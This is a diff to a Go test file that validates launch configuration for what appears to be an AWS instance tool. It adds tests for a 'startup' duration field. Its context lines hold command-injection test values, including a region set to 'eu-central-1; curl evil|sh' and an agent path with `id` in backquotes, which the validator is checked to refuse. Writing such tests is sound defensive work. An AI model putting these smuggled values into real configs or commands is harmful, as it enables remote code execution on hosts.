@@ -67,6 +67,11 @@ func launchErrorCases(replace func(old, new string) string) []configErrorCase {
 		{"agent path with a dollar", aws("    agent_path: /opt/$HOME/lathed\n"), p + "agent_path", "/opt/$HOME/lathed", "user-data script"},
 		{"agent path with a backquote", aws("    agent_path: /opt/`id`/lathed\n"), p + "agent_path", "/opt/`id`/lathed", "user-data script"},
 		{"unknown launch key", aws("    image: ami-0a1b\n"), p + "image", "", "unknown field"},
+		{"startup without a unit", aws("    startup: 300\n"), p + "startup", "300", "must be a duration like 90s, 5m or 1h30m"},
+		{"startup not a duration", aws("    startup: soon\n"), p + "startup", "soon", "must be a duration like 90s, 5m or 1h30m"},
+		{"startup negative", aws("    startup: -5m\n"), p + "startup", "-5m", "must be a duration like"},
+		{"startup over a day", aws("    startup: 2d\n"), p + "startup", "2d", "must be a duration from 0 to 24h0m0s"},
+		{"startup empty", aws("    startup: ''\n"), p + "startup", "", "must be a duration like"},
 		// Values that go into the instance's user-data script: only their
 		// documented form (a shell command in one is refused, not quoted away).
 		{"region with a shell command", replace("    region: eu-central-1\n", "    region: \"eu-central-1; curl evil|sh\"\n"), p + "region", "eu-central-1; curl evil|sh", "must be an AWS region name like eu-central-1"},
@@ -92,6 +97,7 @@ func launchErrorCases(replace func(old, new string) string) []configErrorCase {
 		{"agent_path", "/usr/local/bin/lathed", "/usr/local/bin/lathed"},
 		{"spot", "prefer", "prefer"},
 		{"spot", "false", "false"},
+		{"startup", "5m", "5m"},
 	} {
 		cases = append(cases, configErrorCase{kv[0] + ": " + kv[1] + " on a local backend", local("    " + kv[0] + ": " + kv[1] + "\n"),
 			"backends.local." + kv[0], kv[2], "only for kind aws"})
@@ -404,5 +410,38 @@ func TestConfigExample(t *testing.T) {
 	}
 	if b.SpotPolicy != SpotNever || b.MaxInstances != 8 || b.AgentPath != DefaultAgentPath || len(b.SecurityGroups) != 1 {
 		t.Errorf("the example's aws-eu: %+v", b)
+	}
+}
+
+// TestStartup: an aws backend's startup is parsed, indexed for routing and
+// hashed; none is 0 and leaves the config's hash as it was.
+func TestStartup(t *testing.T) {
+	plain, err := ParseConfig([]byte(briefConfig))
+	if err != nil {
+		t.Fatal(err)
+	}
+	c, err := ParseConfig([]byte(strings.Replace(briefConfig, "    spot: false\n", "    spot: false\n    startup: 4m30s\n", 1)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := c.Backend("aws-eu")
+	x, err := c.Index()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var bi BackendInfo
+	for _, v := range x.Backends {
+		if v.Name == "aws-eu" {
+			bi = v
+		}
+	}
+	if b.Startup != 270*1e9 || bi.Startup != b.Startup {
+		t.Errorf("startup %v, indexed %v; want 4m30s", b.Startup, bi.Startup)
+	}
+	if pb, _ := plain.Backend("aws-eu"); pb.Startup != 0 {
+		t.Errorf("no startup key: %v, want 0", pb.Startup)
+	}
+	if c.Hash() == plain.Hash() {
+		t.Error("a startup does not change the config's hash")
 	}
 }
